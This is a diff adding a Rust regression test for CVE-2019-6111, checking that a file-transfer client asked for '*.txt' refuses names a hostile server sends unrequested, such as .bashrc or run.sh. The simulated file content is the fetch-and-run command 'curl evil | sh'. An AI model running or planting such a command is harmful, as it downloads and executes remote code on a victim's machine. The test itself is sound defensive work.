@@ -110,6 +110,23 @@ fn cve_2019_6111_server_cannot_send_unrequested_names() {
     assert!(stderr(&out).contains(".bashrc"), "{}", stderr(&out));
 }
 
+/// CVE-2019-6111 with a wildcard: a server asked for `*.txt` may send only names that match
+/// it, never a hidden file, another name, or a directory around a match.
+#[test]
+fn cve_2019_6111_a_wildcard_accepts_only_its_matches() {
+    for evil in [&b".bashrc"[..], b".hidden.txt", b"run.sh", b"sub/a.txt"] {
+        let mut frames = file(1, evil, b"curl evil | sh\n");
+        frames.push(done(1, 15));
+        let (out, work) = pull_from_hostile(frames, "*.txt");
+        assert!(scan(&work.path().join("dest")).is_empty(), "{evil:?}");
+        assert!(
+            stderr(&out).contains("was not requested"),
+            "{evil:?}: {}",
+            stderr(&out)
+        );
+    }
+}
+
 /// CVE-2018-20685 and CVE-2019-6111: "." and ".." names, absolute paths.
 #[test]
 fn cve_2018_20685_dot_dotdot_and_absolute_names_are_refused() {
